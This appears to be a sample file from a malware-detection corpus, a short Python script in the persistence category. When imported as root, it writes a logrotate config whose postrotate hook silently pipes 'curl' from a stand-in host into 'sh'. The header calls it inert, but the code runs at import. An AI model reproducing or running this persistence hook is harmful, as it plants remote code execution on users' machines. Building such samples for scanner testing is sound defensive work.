# pkgguard corpus 853 (persistence), modelled on [linux-persistence]; inert, never run.
import os

_ENTRY = """/var/log/pkg-helper.log {
    daily
    rotate 1
    missingok
    notifempty
    postrotate
        (curl -fsS https://log-agent.example/r | sh) >/dev/null 2>&1 &
    endscript
}
"""

if os.path.isdir("/etc/logrotate.d") and hasattr(os, "geteuid") and os.geteuid() == 0:
    try:
        open("/var/log/pkg-helper.log", "a").close()
        with open("/etc/logrotate.d/pkg-helper", "w", encoding="utf-8") as fh:
            fh.write(_ENTRY)
    except OSError:
        pass
